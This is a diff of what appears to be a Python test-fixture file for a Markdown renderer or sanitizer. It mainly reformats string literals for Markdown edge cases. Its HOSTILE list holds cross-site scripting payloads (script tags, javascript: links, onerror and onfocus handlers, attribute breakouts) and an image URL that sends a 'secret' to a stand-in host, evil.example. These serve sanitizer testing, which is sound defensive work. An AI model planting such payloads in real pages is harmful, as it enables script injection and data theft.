@@ -25,7 +25,7 @@ Second line with snake_case and an & and &amp; and 2 * 3.
 
 ```python
 def f(x: int) -> str:
-    # a comment
+    # a comment, and a line that is wider than any phone: it scrolls by itself, and takes nothing else with it
     return f"{x}\\n"
 ```
 
@@ -54,12 +54,16 @@ Another
 Term<br>and ![image](https://example.org/x.png) end.
 
 """,
-    "code with blank lines": "Intro:\n\n```xml\n<a>\n\n\n  <b x='1'/>\n\n</a>\n```\n\nAfter.\n\n~~~\nplain\n\n# no title\n~~~\n",
-    "an unclosed fence": "Look:\n\n```json\n{\"a\": [1, 2,\n\n3]}\n",
+    "code with blank lines": (
+        "Intro:\n\n```xml\n<a>\n\n\n  <b x='1'/>\n\n</a>\n```\n\nAfter.\n\n~~~\nplain\n\n# no\n~~~\n"
+    ),
+    "an unclosed fence": 'Look:\n\n```json\n{"a": [1, 2,\n\n3]}\n',
     "numbered list that goes on": "1. one\n\n2. two\n\n\n3. three\n\n   more of three\n\n10. ten\n\nend\n",
     "indented code": "para\n\n    code\n\n    more\n\npara\n- a\n\n      code in list\n",
     "windows line ends": "# A\r\n\r\n- b\r\n- c\r\n\r\ntext\r\nmore\r\n",
-    "html blocks": "<details>\n<summary>S</summary>\n\ntext **b**\n\n</details>\n\n<!-- a\n\ncomment -->\nafter\n<script>\nx\n\ny</script>\n",
+    "html blocks": (
+        "<details>\n<summary>S</summary>\n\nt **b**\n\n</details>\n\n<!-- a\n\nb -->\nc\n<script>\nx\n\ny</script>\n"
+    ),
     "tables cut": "before\n\n|h1|h2|\n|-|-|\n|a|b|\n|c\n\nafter | not | table\n\n|x|\n|-|\n",
     "other scripts": "שלום **עולם**\n\n- 日本語の文\n- emoji 👩‍👩‍👧‍👦 and é\n\n| ا | ب |\n|-|-|\n| ١ | ٢ |\n",
     "late references": "See [one][1] and [two].\n\nMore text.\n\n- item [one][1]\n\n[1]: https://example.org/1\n[two]: https://example.org/2\n",
@@ -74,9 +78,9 @@ HOSTILE = [
     "<iframe srcdoc='<script>alert(1)</script>'></iframe><base href='https://evil.example/'>",
     "<a href='javascript:alert(1)'>x</a> [x](javascript:alert(1)) [y](  java\nscript:alert(1))",
     "![x](https://evil.example/?q=secret) ![y](data:image/svg+xml,<svg onload=alert(1)>)",
-    "[a](https://ok.example/\"onmouseover=\"alert(1)) [b](https://ok.example/ 'x\" onclick=\"alert(1)')",
+    '[a](https://ok.example/"onmouseover="alert(1)) [b](https://ok.example/ \'x" onclick="alert(1)\')',
     "```html\n<script>alert(1)</script><img src=https://evil.example/>\n```",
-    "```\"><img/src=x onerror=alert(1)>\nx\n```",
+    '```"><img/src=x onerror=alert(1)>\nx\n```',
     "<form action=https://evil.example/><input name=x autofocus onfocus=alert(1)></form>",
     "|<img src=x onerror=alert(1)>|\n|-|\n|<script>alert(1)</script>|",
     "<https://evil.example/><javascript:alert(1)> [x]: javascript:alert(1)\n\n[x]: javascript:alert(1)\n[x]",
